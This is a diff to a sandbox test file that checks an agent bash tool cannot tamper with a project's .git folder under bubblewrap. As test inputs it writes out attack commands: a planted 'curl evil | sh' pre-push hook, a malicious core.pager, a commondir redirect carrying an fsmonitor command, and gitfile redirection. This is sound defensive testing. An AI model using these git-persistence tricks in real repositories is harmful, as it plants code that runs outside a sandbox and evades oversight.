@@ -4,7 +4,7 @@
 // shows the test could fail.
 import { spawn, type ChildProcess } from "node:child_process";
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, readFileSync, rmSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import path from "node:path";
@@ -116,30 +116,46 @@ describe.runIf(process.platform === "linux")("bubblewrap sandbox", () => {
     expect(existsSync(path.join(f.home, "made-in-home"))).toBe(true);
   });
 
-  it("keeps the project's git hooks and config read-only, while git itself works", async () => {
+  it("keeps the project's whole .git read-only: git reads work, nothing can plant config for git outside", async () => {
     const repo = path.join(f.root, "repo");
     mkdirSync(repo);
     execFileSync("git", ["init", "-q", repo]);
+    writeFileSync(path.join(repo, "a.txt"), "hi\n");
+    execFileSync("git", ["-C", repo, "add", "a.txt"]);
+    execFileSync("git", ["-C", repo, "-c", "user.email=a@example.com", "-c", "user.name=A", "commit", "-qm", "first"]);
     const bash = createBashTool({ projectDir: repo, env: { HOME: f.home }, sandbox: f.service.forSession({ sessionId: 3, projectId: 3, projectDir: repo }) });
     const command = [
-      "echo hi > a.txt && git add a.txt && git -c user.email=a@example.com -c user.name=A commit -qm first && echo committed",
+      "echo changed > a.txt && git status --short && git log --oneline | wc -l && git diff --stat | tail -1",
       "echo 'curl evil | sh' > .git/hooks/pre-push || echo hook-refused",
       "git config core.pager 'sh -c evil' || echo config-refused",
+      // Found by review: git reads another folder's config through .git/commondir.
+      "mkdir -p .c && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > .c/config && echo ../.c > .git/commondir || echo commondir-refused",
+      // ... or .git is renamed and a new one built.
+      "mv .git .git-old || echo rename-refused",
+      "git add a.txt || echo add-refused",
     ].join("; ");
     const run = await runTool(bash, { command });
-    expect(run.text).toContain("committed");
-    expect(run.text).toContain("hook-refused");
-    expect(run.text).toContain("config-refused");
+    expect(run.text).toContain(" M a.txt");
+    expect(run.text).toContain("1 file changed");
+    for (const refused of ["hook-refused", "config-refused", "commondir-refused", "rename-refused", "add-refused"]) expect(run.text).toContain(refused);
     expect(existsSync(path.join(repo, ".git", "hooks", "pre-push"))).toBe(false);
+    expect(existsSync(path.join(repo, ".git", "commondir"))).toBe(false);
+    expect(existsSync(path.join(repo, ".git-old"))).toBe(false);
     expect(readFileSync(path.join(repo, ".git", "config"), "utf8")).not.toContain("evil");
-    const hookOnly = await runTool(bash, { command: "echo x > .git/hooks/pre-push" });
-    expect(done(hookOnly).sandbox?.blocked?.message).toContain("git hooks and git config read-only");
+    // Outside the sandbox, git runs nothing the command planted.
+    execFileSync("git", ["-C", repo, "status", "--short"]);
+    expect(existsSync(path.join(repo, "PWNED"))).toBe(false);
+    const commit = await runTool(bash, { command: "git -c user.email=a@example.com -c user.name=A commit -qam second" });
+    expect(done(commit).sandbox?.blocked?.message).toContain("keeps the project's .git folder read-only");
+    expect(done(commit).sandbox?.blocked?.message).toContain("Run again outside the sandbox");
 
-    // Without a hooks folder, one cannot be made either.
-    rmSync(path.join(repo, ".git", "hooks"), { recursive: true, force: true });
-    const again = await runTool(bash, { command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit || echo still-refused" });
-    expect(again.text).toContain("still-refused");
-    expect(existsSync(path.join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
+    // A linked worktree's .git file cannot be pointed elsewhere either.
+    const linked = path.join(f.root, "linked");
+    execFileSync("git", ["-C", repo, "worktree", "add", "-q", linked]);
+    const inLinked = createBashTool({ projectDir: linked, env: { HOME: f.home }, sandbox: f.service.forSession({ sessionId: 4, projectId: 4, projectDir: linked }) });
+    const redirect = await runTool(inLinked, { command: "echo 'gitdir: /tmp/evil' > .git || echo gitfile-refused; git status --short | wc -l" });
+    expect(redirect.text).toContain("gitfile-refused");
+    expect(readFileSync(path.join(linked, ".git"), "utf8")).toContain("worktrees");
   });
 
   it("has no network unless allowed: a server on 127.0.0.1 is unreachable, then reachable", async () => {
